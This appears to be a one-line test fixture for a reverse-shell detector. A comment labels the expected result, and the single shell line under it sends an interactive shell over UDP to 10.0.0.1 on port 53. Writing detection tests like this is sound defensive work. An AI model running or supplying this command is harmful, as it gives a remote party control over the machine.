# expect: reverse-shell
sh -i >& /dev/udp/10.0.0.1/53 0>&1
